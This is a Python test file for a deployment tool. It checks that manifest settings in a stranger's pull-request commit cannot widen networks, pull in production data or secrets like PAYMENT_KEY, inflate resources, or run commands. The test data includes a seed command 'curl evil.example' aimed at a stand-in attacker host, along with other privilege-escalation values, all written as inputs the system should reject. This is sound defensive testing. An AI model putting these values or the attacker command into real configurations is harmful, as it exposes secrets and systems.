"""What a stranger's commit says of how it is run does not count: one case for each key by which it could get itself more.

Git is real; the manifest is read as a deployment reads it.
"""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest
from forge.origin import Origin

from mooring.client.pushed import rules_at
from mooring.client.source import pack_pushed
from mooring.manifest import Manifest
from mooring.model.names import AppName
from mooring.model.review import review_environment, strangers_branch
from mooring.usecases.source_reading import read_manifest

BRANCH = strangers_branch(7, "main")
ENVIRONMENT = review_environment(AppName("shop"), BRANCH)
TEAMS = """
app = "shop"
[services.db]
type = "postgres"
[processes.web]
memory = "256MB"
[review]
pull_requests = true
networks = ["203.0.113.0/24"]
limit = 3
seed = "echo the team's"
"""
TRIES = {
    "services": '[services.files]\ntype = "sqlite"\n',
    "services-from": '[services.db]\ntype = "postgres"\nfrom = "production"\nmask = "SELECT 1"\n',
    "review.services": '[review.services.db]\ntype = "postgres"\nfrom = "production"\nmask = "SELECT 1"\n',
    "review.networks": '[review]\nnetworks = ["0.0.0.0/0"]\n',
    "review.access": '[review]\naccess = "open"\n',
    "review.seed": '[review]\nseed = "curl evil.example"\n',
    "review.limit": "[review]\nlimit = 500\n",
    "review.expire": '[review]\nexpire = "8000h"\n',
    "review.sleep": '[review]\nsleep = "0s"\n',
    "review.hostname": '[review]\nhostname = "{branch}.shop.example.com"\n',
    "review.fork_label": '[review]\nfork_label = "bug"\n',
    "environment-hostnames": f'[environments.{ENVIRONMENT.environment}]\nhostnames = ["shop.example.com"]\n',
    "release": 'release = "env"\n',
    "runtime": 'runtime = "process"\n',
    "regions": "[regions.default]\n",
    "env": '[env]\nADMIN = "yes"\n',
    "secrets": '[secrets]\nfiles = ["PAYMENT_KEY"]\n',
    "build.secrets": '[build]\nsecrets = ["PAYMENT_KEY"]\n',
    "build.command": '[build]\ncommand = "env"\n',
    "build.builder": '[build]\nbuilder = "procfile"\n',
    "build.memory": '[build]\nmemory = "64GB"\n',
    "build.timeout": '[build]\ntimeout = "5h"\n',
    "processes-count": "[processes.web]\ncount = 50\n",
    "processes-memory": '[processes.web]\nmemory = "64GB"\n',
    "processes-cpus": "[processes.web]\ncpus = 64\n",
    "accessories": '[accessories.cache]\ncommand = "redis-server --port $PORT"\n',
    "assets": '[assets]\npath = "static"\nbucket = "cdn"\n',
    "deploy": "[deploy]\nkeep_releases = 90\n",
}


def seen(origin: Origin, tmp_path: Path, base: str, theirs: str) -> Manifest:
    """What a deployment reads of the stranger's commit, by the rules of the base."""
    tmp_path.mkdir()
    rules = rules_at(origin.place / ".git", base, environment=ENVIRONMENT, branch=BRANCH)
    package = pack_pushed(origin.place / ".git", theirs, branch=BRANCH, temporary=tmp_path, replaced=rules)
    tree = tmp_path / "tree"
    with tarfile.open(package.archive) as archive:
        archive.extractall(tree, filter="data")
    return read_manifest(tree, ENVIRONMENT, branch=BRANCH)


@pytest.fixture
def base(origin: Origin) -> str:
    return origin.commit("the team's", mooring_toml=TEAMS, Procfile="web: ./serve\n")


@pytest.fixture
def origin(tmp_path: Path) -> Origin:
    return Origin(tmp_path / "origin")


@pytest.mark.parametrize("attempt", TRIES)
def test_no_key_of_a_strangers_manifest_counts(origin: Origin, base: str, tmp_path: Path, attempt: str) -> None:
    """Each is one that counts on a branch of one's own."""
    plain = origin.commit("nothing asked for", mooring_toml='app = "shop"\n')
    theirs = origin.commit("a stranger's", mooring_toml=f'app = "shop"\n{TRIES[attempt]}')
    assert seen(origin, tmp_path / "lent", base, theirs) == seen(origin, tmp_path / "ours", base, base)
    assert seen(origin, tmp_path / "own", theirs, theirs) != seen(origin, tmp_path / "plain", plain, plain)


@pytest.mark.parametrize("place", ["app.json", "web/app.json"])
@pytest.mark.parametrize("has_own", [True, False], ids=["of-ours", "of-theirs-alone"])
def test_nor_does_its_app_json_ask_for_more_instances(origin: Origin, tmp_path: Path, place: str, has_own: bool) -> None:
    """Also where it hides behind a link that stands for the app's folder."""
    (origin.place / "web").mkdir()
    toml = TEAMS + ('[build]\nroot = "web"\n' if "/" in place else "")
    (origin.place / "web" / "Procfile").write_text("web: ./serve\n")
    if has_own:
        (origin.place / place).write_text('{"formation": {"web": {"quantity": 2}}}')
    base = origin.commit("the team's", mooring_toml=toml, Procfile="web: ./serve\n")
    (origin.place / place).write_text('{"formation": {"web": {"quantity": 90}}}')
    theirs = origin.commit("a stranger's")
    (origin.place / "web").rename(origin.place / "elsewhere")
    (origin.place / "web").symlink_to("elsewhere")
    linked = origin.commit("a stranger's link")
    for commit in (theirs, linked):
        found = seen(origin, tmp_path / commit, base, commit)
        assert {each.name: each.count for each in found.processes} == {"web": 2 if has_own else 1}
